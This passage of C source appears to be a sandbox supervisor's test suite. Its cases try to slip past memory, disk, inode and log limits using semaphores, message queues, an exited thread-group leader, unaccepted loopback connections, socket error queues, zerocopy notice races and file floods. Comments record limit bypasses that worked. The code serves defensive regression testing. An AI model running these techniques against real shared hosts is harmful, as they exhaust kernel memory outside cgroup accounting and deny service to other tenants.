  long mib = colon ? atol(colon + 1) : 0, got = 0;
  long page = sysconf(_SC_PAGESIZE);
  bool zero = colon && (size_t)(colon - arg) == 4 && !strncmp(arg, "zero", 4);
  int fd = -1;

  if (!colon || mib <= 0 ||
      (!zero && ((size_t)(colon - arg) != 4 || strncmp(arg, "anon", 4)))) {
    esc(r, "bad argument");
    return;
  }
  if (zero) {
    fd = open("/dev/zero", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
      how(r, "open(/dev/zero):%s", ename(errno));
      return;
    }
  }
  for (; got < mib; got += (long)(chunk >> 20)) {
    char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE,
                   MAP_SHARED | (zero ? 0 : MAP_ANONYMOUS), fd, 0);
    if (p == MAP_FAILED) {
      how(r, "mmap(MAP_SHARED%s):%s after %ld MiB",
          zero ? ", /dev/zero" : "|MAP_ANONYMOUS", ename(errno), got);
      if (fd >= 0)
        close(fd);
      return;
    }
    memset(p, 0x5a, chunk);
    /* The first page stays mapped (and so the whole object alive) until
     * the case ends. */
    if (munmap(p + page, chunk - (size_t)page) < 0) {
      how(r, "munmap:%s", ename(errno));
      break;
    }
  }
  if (got >= mib)
    esc(r, "%ld MiB held, one page of each 64 MiB mapped", got);
  if (fd >= 0)
    close(fd);
}

/* System V semaphores: kernel memory that needs neither a mapping, nor a
 * descriptor, nor a process to be held (the objects live in the IPC
 * namespace until it goes).  ARG MiB in arrays of SEMMSL (32000)
 * semaphores, 64 bytes each (struct sem is cache-line aligned): 2 MiB an
 * array, up to SEMMNI (32000) of them, 61 GiB, in a fresh namespace. */
static void case_semhog(struct res *r, const char *arg) {
  const long per = 2; /* MiB an array */
  long mib = arg && *arg ? atol(arg) : 0, got = 0;

  if (mib <= 0) {
    esc(r, "bad argument");
    return;
  }
  for (; got < mib; got += per)
    if (semget(IPC_PRIVATE, 32000, IPC_CREAT | 0600) < 0) {
      how(r, "semget:%s after %ld MiB", ename(errno), got);
      return;
    }
  sleep(1); /* held past a sample or two */
  esc(r, "%ld MiB held in semaphore arrays", got);
}

/* System V message queues, where a profile's seccomp-allow lets msgget
 * and msgsnd in: each queued message, empty ones too, is a kernel
 * allocation the queue holds with no mapping, descriptor or process.
 * Queues of up to MSGMNB empty messages, until ARG queues are full (about
 * 1 MiB of slab each); blocked when msgget or msgsnd is refused. */
static void case_msghog(struct res *r, const char *arg) {
  long queues = arg && *arg ? atol(arg) : 0, q;
  struct {
    long mtype;
    char mtext[1];
  } m = {1, {0}};

  if (queues <= 0) {
    esc(r, "bad argument");
    return;
  }
  for (q = 0; q < queues; q++) {
    int id = msgget(IPC_PRIVATE, IPC_CREAT | 0600);

    if (id < 0) {
      how(r, "msgget:%s after %ld queues", ename(errno), q);
      return;
    }
    while (msgsnd(id, &m, 0, IPC_NOWAIT) == 0)
      ;
    if (errno != EAGAIN) {
      how(r, "msgsnd:%s after %ld queues", ename(errno), q);
      return;
    }
  }
  sleep(1); /* held past a sample or two */
  esc(r, "%ld queues of empty messages held", q);
}

/* Memory held by a process whose thread group leader has exited: ARG MiB
 * touched, 1 MiB every 2 ms, by a thread of a child whose main thread
 * then called pthread_exit.  The process lives on in that thread, but its
 * /proc/PID/statm and maps, read through the leader, whose mm went with
 * it, show nothing: the supervisor's sampler saw 0 bytes and let 1.5 GiB
 * through the 512 MiB limit.  The child reports what it holds through a
 * pipe; blocked when an allocation fails or the run is stopped (then
 * there is no line: the test reads the run's status). */
struct zleader {
  long mib;
  int fd;
};

static void *zleader_hold(void *arg) {
  const struct zleader *z = arg;
  const struct timespec nap = {0, 2000000};
  long got = 0;

  for (; got < z->mib; got++) {
    char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      dprintf(z->fd, "mmap:%s after %ld MiB\n", ename(errno), got);
      break;
    }
    memset(p, 0xa5, 1 << 20);
    nanosleep(&nap, NULL);
  }
  if (got >= z->mib)
    dprintf(z->fd, "%ld\n", got);
  for (;;)
    pause();
  return NULL;
}

static void case_zleader(struct res *r, const char *arg) {
  struct zleader z = {.mib = atol(arg)};
  char line[256];
  size_t len = 0;
  int pfd[2];
  pid_t pid;

  if (z.mib <= 0 || pipe2(pfd, O_CLOEXEC) < 0) {
    esc(r, "bad argument or pipe2:%s", ename(errno));
    return;
  }
  pid = fork();
  if (pid < 0) {
    how(r, "fork:%s", ename(errno));
    close(pfd[0]);
    close(pfd[1]);
    return;
  }
  if (pid == 0) {
    pthread_t t;
    close(pfd[0]);
    z.fd = pfd[1];
    if (pthread_create(&t, NULL, zleader_hold, &z) != 0)
      _exit(1);
    pthread_exit(NULL);
  }
  close(pfd[1]);
  while (len + 1 < sizeof(line)) {
    ssize_t n = read(pfd[0], line + len, sizeof(line) - 1 - len);
    if (n < 0 && errno == EINTR)
      continue;
    if (n <= 0)
      break;
    len += (size_t)n;
    if (memchr(line, '\n', len))
      break;
  }
  close(pfd[0]);
  line[len] = '\0';
  line[strcspn(line, "\n")] = '\0';
  kill(pid, SIGKILL);
  waitpid(pid, NULL, 0);
  if (line[0] >= '0' && line[0] <= '9')
    esc(r, "%s MiB held by a process whose thread group leader exited", line);
  else
    how(r, "%s", line[0] ? line : "the holder died without a word");
}

/* Writes into connection c (made non-blocking) until `held`, the bytes
 * written so far, reaches `target` or loopback takes no more; returns the
 * new total. */
static long fill_connection(int c, const char *buf, size_t len, long held,
                            long target) {
  fcntl(c, F_SETFL, O_NONBLOCK);
  for (int tries = 0; held < target && tries < 3;) {
    ssize_t n = write(c, buf, len);
    if (n > 0) {
      held += n;
      continue;
    }
    if (n < 0 && errno != EAGAIN)
      break;
    /* let loopback move what it holds into the peer's queue */
    tries++;
    nanosleep(&(struct timespec){0, 2000000}, NULL);
  }
  return held;
}

/* target bytes written into loopback TCP connections that nobody reads,
 * each with the largest buffers the host allows: what was held, the
 * sockets left open (they go with the process).  A failure is said with
 * how(). */
static long hold_in_sockets(struct res *r, long target) {
  struct sockaddr_in a = {.sin_family = AF_INET,
                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t alen = sizeof(a);
  static char buf[65536];
  int big = 8 << 20, l;
  long held = 0;

  memset(buf, 0x5a, sizeof(buf));
  l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 ||
      listen(l, 64) < 0 || getsockname(l, (struct sockaddr *)&a, &alen) < 0) {
    how(r, "listen:%s", ename(errno));
    if (l >= 0)
      close(l);
    return 0;
  }
  while (held < target) {
    int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), p;
    long before = held;

    if (c < 0) {
      how(r, "socket:%s after %ld MiB", ename(errno), held >> 20);
      break;
    }
    setsockopt(c, SOL_SOCKET, SO_SNDBUF, &big, sizeof(big));
    if (connect(c, (struct sockaddr *)&a, sizeof(a)) < 0 ||
        (p = accept4(l, NULL, NULL, SOCK_CLOEXEC)) < 0) {
      how(r, "connect/accept:%s after %ld MiB", ename(errno), held >> 20);
      close(c);
      break;
    }
    setsockopt(p, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
    held = fill_connection(c, buf, sizeof(buf), held, target);
    if (held == before) {
      how(r, "a connection took nothing after %ld MiB", held >> 20);
      break;
    }
  }
  close(l);
  return held;
}

/* Memory held in socket buffers: ARG MiB (hold_in_sockets).  cgroup v1
 * counts socket buffers apart from the run's memory, and only once
 * memory.kmem.tcp.limit_in_bytes is set: 600 MiB went through a 64 MiB
 * limit, memory.usage_in_bytes ~1 MB.  Blocked when a call fails or the
 * run is stopped (then there is no line). */
static void case_sockhog(struct res *r, const char *arg) {
  long mib = atol(arg);

  if (mib <= 0) {
    esc(r, "bad argument");
    return;
  }
  if (hold_in_sockets(r, mib << 20) >= mib << 20)
    esc(r, "%ld MiB held in socket buffers", mib);
}

/* Socket buffers and memory that together pass the limit, the memory
 * let go for 10 ms in every 50 (ARG SOCK_MIB:MEM_MIB:SECONDS).  On cgroup
 * v1 the supervisor adds the two; after the kernel refused to make room
 * it took any one reading within the limit, out of those of the next 50
 * ms, as not over, and such dips always fell in that time: a run of 64
 * MiB held 50 + 50 MiB for 8 s and succeeded.  Escaped when the time was
 * held; no line when the run is stopped. */
static void case_sockdip(struct res *r, const char *arg) {
  long sock = 0, mem = 0;
  int secs = 0;
  char *m;
  time_t end;

  if (sscanf(arg, "%ld:%ld:%d", &sock, &mem, &secs) != 3 || sock <= 0 ||
      mem <= 0 || secs <= 0) {
    esc(r, "bad argument");
    return;
  }
  if (hold_in_sockets(r, sock << 20) < sock << 20)
    return;
  m = mmap(NULL, (size_t)mem << 20, PROT_READ | PROT_WRITE,
           MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (m == MAP_FAILED) {
    how(r, "mmap:%s", ename(errno));
    return;
  }
  end = time(NULL) + secs;
  while (time(NULL) < end) {
    memset(m, 1, (size_t)mem << 20);
    nanosleep(&(struct timespec){0, 40000000}, NULL);
    madvise(m, (size_t)mem << 20, MADV_DONTNEED);
    nanosleep(&(struct timespec){0, 10000000}, NULL);
  }
  esc(r,
      "%ld MiB of socket buffers and %ld MiB of memory held %d s, let go "
      "10 ms in 50",
      sock, mem, secs);
}

/* Memory held on connections no process accepted: ARG MiB sent into
 * loopback TCP connections left in a listener's accept queue.  A
 * connection is charged to a memory cgroup only when accept(2) takes it;
 * before, what its peer sends is in the host's TCP memory alone (the
 * listener's SO_RCVBUF, which the connections inherit, is the most each
 * holds): 1 GiB went through the default 512 MiB limit with cgroup v1's
 * usage and kmem.tcp at a few MB, the run succeeded.  The senders keep
 * small buffers, so that what is charged stays small.  Escaped once the
 * target was reached and held for 3 s; blocked when a call fails; no line
 * when the run is stopped first. */
static void case_acceptq(struct res *r, const char *arg) {
  long mib = atol(arg), held = 0;
  struct sockaddr_in a = {.sin_family = AF_INET,
                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t alen = sizeof(a);
  static char buf[65536];
  int big = 8 << 20, small = 64 << 10, l;

  if (mib <= 0) {
    esc(r, "bad argument");
    return;
  }
  memset(buf, 0x5a, sizeof(buf));
  l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (l < 0 || setsockopt(l, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big)) < 0 ||
      bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(l, 4096) < 0 ||
      getsockname(l, (struct sockaddr *)&a, &alen) < 0) {
    how(r, "listen:%s", ename(errno));
    if (l >= 0)
      close(l);
    return;
  }
  while (held < mib << 20) {
    int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    long before = held;

    if (c < 0) {
      how(r, "socket:%s after %ld MiB", ename(errno), held >> 20);
      break;
    }
    setsockopt(c, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
    if (connect(c, (struct sockaddr *)&a, sizeof(a)) < 0) {
      how(r, "connect:%s after %ld MiB", ename(errno), held >> 20);
      close(c);
      break;
    }
    held = fill_connection(c, buf, sizeof(buf), held, mib << 20);
    if (held == before) {
      how(r, "a connection took nothing after %ld MiB", held >> 20);
      break;
    }
  }
  if (held >= mib << 20) {
    sleep(3);
    esc(r, "%ld MiB held on connections nobody accepted", held >> 20);
  }
  close(l);
}

/* Error queues (the cases errq, errq6, tsopt, tscmsg, tcpts): what the
 * kernel puts on a socket's error queue (sock_queue_err_skb) is charged to
 * the socket's receive buffer alone, to no memory cgroup, so that a skill
 * holds the host's memory there past its limit.  Each case takes a socket
 * at a time (the largest receive buffer the host allows), fills its error
 * queue until SO_MEMINFO's rmem_alloc stops growing and keeps it, and
 * stops once the sockets together hold ARG MiB.  Escaped once the target
 * was reached and held for 3 s; blocked when a call fails or a socket
 * queues nothing (the kernel dropped the timestamps); no line when the run
 * is stopped first. */
struct errq_kind {
  int family;     /* AF_INET or AF_INET6 */
  bool tcp;       /* a loopback connection whose reader reads all */
  int level, opt; /* setsockopt(level, opt, val) asking for it; opt 0: none */
  int val;
  const char *optname;
  int tsflags; /* a TX timestamp asked per message (cmsg); 0: none */
  size_t len;  /* bytes per send */
  int want;    /* the errno every send ends in (0: none) */
};

/* Socket s's rmem_alloc (SO_MEMINFO): its receive and error queues. */
static long rmem_alloc(int s) {
  uint32_t mi[SK_MEMINFO_VARS];
  socklen_t len = sizeof(mi);

  if (getsockopt(s, SOL_SOCKET, SO_MEMINFO, mi, &len) < 0)
    return -1;
  return mi[SK_MEMINFO_RMEM_ALLOC];
}

/* One send of kind k on s (the peer p of a connection drained after it);
 * 0 or the errno it failed with. */
static int errq_send(const struct errq_kind *k, int s, int p,
                     const struct sockaddr *to, socklen_t tolen) {
  static char buf[65535], sink[65536];
  char cbuf[CMSG_SPACE(sizeof(int))];
  struct iovec iov = {buf, k->len};
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
  int e = 0;

  if (!k->tcp) {
    m.msg_name = (void *)to;
    m.msg_namelen = tolen;
  }
  if (k->tsflags) {
    struct cmsghdr *c;

    memset(cbuf, 0, sizeof(cbuf));
    m.msg_control = cbuf;
    m.msg_controllen = sizeof(cbuf);
    c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SO_TIMESTAMPING;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &k->tsflags, sizeof(int));
  }
  if (sendmsg(s, &m, MSG_DONTWAIT) < 0)
    e = errno;
  if (k->tcp)
    while (recv(p, sink, sizeof(sink), MSG_DONTWAIT) > 0)
      ;
  return e;
}

/* A socket of kind k bound to loopback (a connection's sending end, its
 * peer in *p), its error queue asked for; -1 with r told why. */
static int errq_socket(struct res *r, const struct errq_kind *k, int l,
                       const struct sockaddr *lo, socklen_t lolen, int *p) {
  int big = 4 << 20;
  int s =
      socket(k->family, (k->tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);

  *p = -1;
  if (s < 0) {
    how(r, "socket:%s", ename(errno));
    return -1;
  }
  setsockopt(s, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
  if (k->opt && setsockopt(s, k->level, k->opt, &k->val, sizeof(k->val)) < 0) {
    how(r, "%s:%s", k->optname, ename(errno));
    close(s);
    return -1;
  }
  if (!k->tcp) {
    if (bind(s, lo, lolen) < 0) {
      how(r, "bind loopback:%s", ename(errno));
      close(s);
      return -1;
    }
    return s;
  }
  if (connect(s, lo, lolen) < 0 ||
      (*p = accept4(l, NULL, NULL, SOCK_CLOEXEC)) < 0) {
    how(r, "connect/accept:%s", ename(errno));
    close(s);
    return -1;
  }
  return s;
}

/* The cases' common part (above): ARG MiB on error queues of kind k,
 * within 4096 sockets and 30 s. */
static void errq_fill(struct res *r, const char *arg,
                      const struct errq_kind *k) {
  enum { MAX_SOCKETS = 4096, MAX_SENDS = 1 << 16, CHECK = 16 };
  static int fds[2 * MAX_SOCKETS];
  struct sockaddr_storage lo = {0}, to;
  socklen_t lolen, alen;
  long mib = atol(arg), held = 0;
  time_t end = time(NULL) + 30;
  int n = 0, l = -1;

  if (mib <= 0) {
    esc(r, "bad argument");
    return;
  }
  if (k->family == AF_INET6) {
    struct sockaddr_in6 *a = (struct sockaddr_in6 *)&lo;
    a->sin6_family = AF_INET6;
    a->sin6_addr = in6addr_loopback;
    lolen = sizeof(*a);
  } else {
    struct sockaddr_in *a = (struct sockaddr_in *)&lo;
    a->sin_family = AF_INET;
    a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    lolen = sizeof(*a);
  }
  /* UDP to port 9 (discard: nobody listens); TCP to a listener of ours */
  to = lo;
  if (k->family == AF_INET6)
    ((struct sockaddr_in6 *)&to)->sin6_port = htons(9);
  else
    ((struct sockaddr_in *)&to)->sin_port = htons(9);
  if (k->tcp) {
    alen = lolen;
    l = socket(k->family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (l < 0 || bind(l, (struct sockaddr *)&lo, lolen) < 0 ||
        listen(l, 64) < 0 ||
        getsockname(l, (struct sockaddr *)&lo, &alen) < 0) {
      how(r, "listen:%s", ename(errno));
      if (l >= 0)
        close(l);
      return;
    }
  }
  while (held < mib << 20) {
    long last = 0, now = 0;
    int p, s, e = 0, sends;

    if (n == MAX_SOCKETS || time(NULL) >= end) {
      how(r, "%ld MiB on %d sockets, then gave up", held >> 20, n);
      break;
    }
    s = errq_socket(r, k, l, (struct sockaddr *)&lo, lolen, &p);
    if (s < 0) {
      if (n > 0)
        how(r, "after %ld MiB on %d sockets", held >> 20, n);
      break;
    }
    fds[2 * n] = s;
    fds[2 * n + 1] = p;
    n++;
    for (sends = 1; sends <= MAX_SENDS; sends++) {
      e = errq_send(k, s, p, (struct sockaddr *)&to, lolen);
      if (e != 0 && e != k->want && e != EAGAIN && e != ECONNREFUSED)
        break;
      e = 0;
      if (sends % CHECK)
        continue;
      now = rmem_alloc(s);
      if (now < 0 || (now == last && sends >= 64) || held + now >= mib << 20)
        break;
      last = now;
    }
    if (e != 0) {
      how(r, "send:%s", ename(e));
      break;
    }
    if (now < 0) {
      how(r, "SO_MEMINFO:%s", ename(errno));
      break;
    }
    if (now == 0) {
      how(r, "nothing queued in %d sends", sends);
      break;
    }
    held += now;
  }
  if (held >= mib << 20) {
    sleep(3);
    held = 0;
    for (int i = 0; i < n; i++)
      held += rmem_alloc(fds[2 * i]);
    esc(r, "%ld MiB held on sockets' error queues (%d sockets)", held >> 20, n);
  }
  for (int i = 0; i < 2 * n; i++)
    if (fds[i] >= 0)
      close(fds[i]);
  if (l >= 0)
    close(l);
}

/* IP_RECVERR: each sendto of a datagram too large for UDP (65535 bytes)
 * to 127.0.0.1:9 fails EMSGSIZE and queues a local error on the socket's
 * error queue, never read: 240 sockets held 2 GB under --memory 64M and
 * the run succeeded. */
static void case_errq(struct res *r, const char *arg) {
  errq_fill(r, arg,
            &(struct errq_kind){.family = AF_INET,
                                .level = IPPROTO_IP,
                                .opt = IP_RECVERR,
                                .val = 1,
                                .optname = "IP_RECVERR",
                                .len = 65535,
                                .want = EMSGSIZE});
}

/* The same over IPv6 (IPV6_RECVERR, to [::1]:9); blocked too when the
 * sandbox's lo has no ::1. */
static void case_errq6(struct res *r, const char *arg) {
  errq_fill(r, arg,
            &(struct errq_kind){.family = AF_INET6,
                                .level = IPPROTO_IPV6,
                                .opt = IPV6_RECVERR,
                                .val = 1,
                                .optname = "IPV6_RECVERR",
                                .len = 65535,
                                .want = EMSGSIZE});
}

/* SO_TIMESTAMPING with TX software timestamps: each 60000-byte datagram
 * sent over lo (to 127.0.0.1:9) leaves a clone of itself, data and all,
 * on the error queue. */
static void case_tsopt(struct res *r, const char *arg) {
  errq_fill(r, arg,
            &(struct errq_kind){.family = AF_INET,
                                .level = SOL_SOCKET,
                                .opt = SO_TIMESTAMPING,
                                .val = SOF_TIMESTAMPING_TX_SOFTWARE |
                                       SOF_TIMESTAMPING_SOFTWARE,
                                .optname = "SO_TIMESTAMPING",
                                .len = 60000});
}

/* As tsopt with no setsockopt: the TX timestamp is asked per message, in
 * a control message (SOL_SOCKET, SO_TIMESTAMPING): 40 sockets held 275
 * MB.  Only the network namespace's net.core.tstamp_allow_data=0 stops it
 * (per namespace since Linux 6.13). */
static void case_tscmsg(struct res *r, const char *arg) {
  errq_fill(r, arg,
            &(struct errq_kind){.family = AF_INET,
                                .tsflags = SOF_TIMESTAMPING_TX_SOFTWARE,
                                .len = 60000});
}

/* The per-message TX timestamp on loopback TCP connections (a listener of
 * the skill's own): the receiver reads everything, the sender's error
 * queue keeps a clone of each 60000-byte write. */
static void case_tcpts(struct res *r, const char *arg) {
  errq_fill(r, arg,
            &(struct errq_kind){.family = AF_INET,
                                .tcp = true,
                                .tsflags = SOF_TIMESTAMPING_TX_SOFTWARE,
                                .len = 60000});
}

/* zerocopy: MSG_ZEROCOPY's completion notices (SO_ZEROCOPY) go on the
 * error queue, allocated against the socket's option memory
 * (sock_omalloc, up to net.core.optmem_max, 128 KiB), charged to no
 * cgroup.  They merge into one while their ids follow each other; a send
 * that fails (from an unmapped buffer, EFAULT) takes its id back, and
 * raced against good sends by a second thread it makes them repeat, so
 * that every notice stays.  The sockets fill one after another, each
 * until its option memory stops growing; ARG MiB in all.  Before
 * SO_ZEROCOPY was refused, 3600 UDP sockets held 446 MiB under --memory
 * 64M and the run succeeded.  Escaped once the target was reached and
 * held for 3 s; blocked when a call fails or a socket holds nothing. */
struct zc_race {
  int fd;
  const char *bad;
  atomic_bool stop;
};

static void *zc_bad_sends(void *arg) {
  struct zc_race *z = arg;

  while (!atomic_load(&z->stop))
    send(z->fd, z->bad, 1000, MSG_ZEROCOPY | MSG_DONTWAIT);
  return NULL;
}

static long optmem(int s) {
  uint32_t mi[SK_MEMINFO_VARS];
  socklen_t len = sizeof(mi);

  if (getsockopt(s, SOL_SOCKET, SO_MEMINFO, mi, &len) < 0)
    return -1;
  return mi[SK_MEMINFO_OPTMEM];
}

static void case_zerocopy(struct res *r, const char *arg) {
  enum { MAX_SOCKETS = 900, SENDS = 20000 };
  static int fds[MAX_SOCKETS];
  static char buf[1000], sink[65536];
  struct sockaddr_in a = {.sin_family = AF_INET,
                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t alen = sizeof(a);
  long mib = atol(arg), held = 0;
  time_t end = time(NULL) + 30;
  int n = 0, one = 1, rcv = 1 << 20, sink_fd;
  struct zc_race z = {.fd = -1};

  if (mib <= 0) {
    esc(r, "bad argument");
    return;
  }
  z.bad = mmap(NULL, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  sink_fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (z.bad == MAP_FAILED || sink_fd < 0 ||
      bind(sink_fd, (struct sockaddr *)&a, sizeof(a)) < 0 ||
      getsockname(sink_fd, (struct sockaddr *)&a, &alen) < 0) {
    how(r, "receiver:%s", ename(errno));
    if (sink_fd >= 0)
      close(sink_fd);
    return;
  }
  setsockopt(sink_fd, SOL_SOCKET, SO_RCVBUF, &rcv, sizeof(rcv));
  while (held < mib << 20) {
    pthread_t t;
    long now = 0, last = -1;
    int s;

    if (n == MAX_SOCKETS || time(NULL) >= end) {
      how(r, "%ld MiB on %d sockets, then gave up", held >> 20, n);
      break;
    }
    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0) {
      how(r, "socket:%s after %ld MiB", ename(errno), held >> 20);
      break;
    }
    fds[n++] = s;
    if (setsockopt(s, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one)) < 0) {
      how(r, "SO_ZEROCOPY:%s", ename(errno));
      break;
    }
    if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
      how(r, "connect:%s", ename(errno));
      break;
    }
    z.fd = s;
    atomic_store(&z.stop, false);
    if (pthread_create(&t, NULL, zc_bad_sends, &z) != 0) {
      how(r, "pthread_create failed");
      break;
    }
    for (int i = 1; i <= SENDS; i++) {
      if (send(s, buf, sizeof(buf), MSG_ZEROCOPY | MSG_DONTWAIT) < 0 &&
          errno == ENOBUFS)
        break; /* the option memory is full */
      if (i % 256)
        continue;
      while (recv(sink_fd, sink, sizeof(sink), MSG_DONTWAIT) > 0)
        ;
      now = optmem(s);
      if (now <= last)
        break;
      last = now;
    }
    atomic_store(&z.stop, true);
    pthread_join(t, NULL);
    now = optmem(s);
    if (now <= 0) {
      how(r, "nothing held after %d sockets", n);
      break;
    }
    held += now;
  }
  if (held >= mib << 20) {
    sleep(3);
    held = 0;
    for (int i = 0; i < n; i++)
      held += optmem(fds[i]);
    esc(r, "%ld MiB of zerocopy notices held (%d sockets)", held >> 20, n);
  }
  for (int i = 0; i < n; i++)
    close(fds[i]);
  close(sink_fd);
  munmap((void *)z.bad, 4096);
}

/* Not an attack, a skill that must run: ARG NAMES:KIB.  It keeps KIB KiB
 * unread in one loopback TCP connection while it looks up NAMES names
 * that do not exist under /usr: each a negative dentry, kernel memory the
 * run is charged for and that the kernel reclaims at the memory limit, so
 * that the run's memory.usage_in_bytes climbs to the limit again and
 * again.  Reported blocked ("held ...") once all of that is done: under
 * cgroup v1 the supervisor counted those dentries as held and, with the
 * socket buffers, past the limit, stopping the run as oom (then there is
 * no line). */
static void case_dentsock(struct res *r, const char *arg) {
  struct sockaddr_in a = {.sin_family = AF_INET,
                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t alen = sizeof(a);
  long names = atol(arg), kib, held = 0;
  const char *colon = strchr(arg, ':');
  static char buf[65536];
  char path[80];
  struct timespec now;
  struct stat st;
  int l, c, p;

  kib = colon ? atol(colon + 1) : 0;
  if (names <= 0 || kib <= 0) {
    esc(r, "bad argument");
    return;
  }
  memset(buf, 0x5a, sizeof(buf));
  l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 ||
      listen(l, 1) < 0 || getsockname(l, (struct sockaddr *)&a, &alen) < 0) {
    esc(r, "listen:%s", ename(errno));
    return;
  }
  c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (c < 0 || connect(c, (struct sockaddr *)&a, sizeof(a)) < 0 ||
      (p = accept4(l, NULL, NULL, SOCK_CLOEXEC)) < 0) {
    esc(r, "connect/accept:%s", ename(errno));
    return;
  }
  fcntl(c, F_SETFL, O_NONBLOCK);
  for (int tries = 0; held < kib << 10 && tries < 3;) {
    size_t want = (size_t)(kib << 10) - (size_t)held;
    ssize_t n = write(c, buf, want < sizeof(buf) ? want : sizeof(buf));
    if (n > 0) {
      held += n;
      continue;
    }
    tries++;
    nanosleep(&(struct timespec){0, 2000000}, NULL);
  }
  /* New names each run (the pid is the same in each): an earlier run's
   * dentries are not this one's. */
  clock_gettime(CLOCK_REALTIME, &now);
  for (long i = 0; i < names; i++) {
    snprintf(path, sizeof(path), "/usr/.attacker-no-such-%lld.%ld-%ld",
             (long long)now.tv_sec, now.tv_nsec, i);
    (void)stat(path, &st);
  }
  how(r, "held %ld KiB in a socket through %ld lookups", held >> 10, names);
  close(p);
  close(c);
  close(l);
}

/* Disk fill: ARG DIR:MiB; writes until the tmpfs cap says ENOSPC. */
static void case_diskfill(struct res *r, const char *arg) {
  char dir[PATH_MAX], *path;
  const char *colon = strrchr(arg, ':');
  long mib, got = 0;
  static char buf[1 << 20];
  int fd;

  if (!colon || (size_t)(colon - arg) >= sizeof(dir)) {
    esc(r, "bad argument");
    return;
  }
  memcpy(dir, arg, (size_t)(colon - arg));
  dir[colon - arg] = '\0';
  mib = atol(colon + 1);
  path = join(dir, "/attack-fill");
  fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) {
    how(r, "open:%s", ename(errno));
    free(path);
    return;
  }
  memset(buf, 'F', sizeof(buf));
  for (; got < mib; got++) {
    size_t off = 0;
    while (off < sizeof(buf)) {
      ssize_t n = write(fd, buf + off, sizeof(buf) - off);
      if (n < 0) {
        how(r, "write:%s after %ld MiB", ename(errno), got);
        close(fd);
        (void)unlink(path);
        free(path);
        return;
      }
      off += (size_t)n;
    }
  }
  esc(r, "%ld MiB written", got);
  close(fd);
  (void)unlink(path);
  free(path);
}

/* Inode flood: ARG KIND:N, N empty directories, files or symbolic links
 * (to /etc/passwd) in /workspace/outputs/many.  Each one costs the host
 * an inode and a harvest step; the outputs tmpfs's inode cap must say
 * ENOSPC long before N (issue 14: 150,000 directories became 150,000 host
 * directories).  Blocked when creation stopped early. */
static void case_mkmany(struct res *r, const char *arg) {
  const char *colon = strchr(arg, ':');
  const char *base = "/workspace/outputs/many";
  long n = colon ? atol(colon + 1) : 0, made = 0;
  int dfd, e = 0;

  if (!colon || n <= 0) {
    esc(r, "bad argument");
    return;
  }
  if (mkdir(base, 0755) < 0 && errno != EEXIST) {
    how(r, "mkdir:%s", ename(errno));
    return;
  }
  dfd = open(base, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) {
    how(r, "open:%s", ename(errno));
    return;
  }
  for (; made < n; made++) {
    char name[32];
    int rc;
    snprintf(name, sizeof(name), "%ld", made);
    if (!strncmp(arg, "dirs:", 5))
      rc = mkdirat(dfd, name, 0755);
    else if (!strncmp(arg, "symlinks:", 9))
      rc = symlinkat("/etc/passwd", dfd, name);
    else {
      rc = openat(dfd, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
      if (rc >= 0)
        rc = close(rc);
    }
    if (rc < 0) {
      e = errno;
      break;
    }
  }
  close(dfd);
  if (made < n)
    how(r, "%s after %ld", ename(e), made);
  else
    esc(r, "made all %ld", made);
}

/* Log flood: ARG MiB to stdout; the supervisor keeps only the log cap
 * (checked from outside).  Prints its line first, as the flood may be cut. */
static void case_logflood(struct res *r, const char *arg) {
  long mib = atol(arg);
  static char buf[1 << 16];

  memset(buf, 'L', sizeof(buf));
  buf[sizeof(buf) - 1] = '\n';
  how(r, "flooding %ld MiB", mib);
  report("logflood", r);
  for (long i = 0; i < mib * 16; i++)
    if (write(1, buf, sizeof(buf)) < 0)
      break;
  r->how[0] = '\0';
}

/* Huge argv: more than ARG_MAX in total, and one string over
 * MAX_ARG_STRLEN (the stack-clash family, CVE-2017-1000364/1000366, fed
 * by huge argv/envp): execve must refuse with E2BIG. */
static void case_argv(struct res *r, const char *arg) {
  size_t count = 64, each = 100 * 1024;
  char **argv = calloc(count + 2, sizeof(char *));
  char *s = malloc(each);
  char *one[3];
  char *big = malloc(200 * 1024);

  (void)arg;
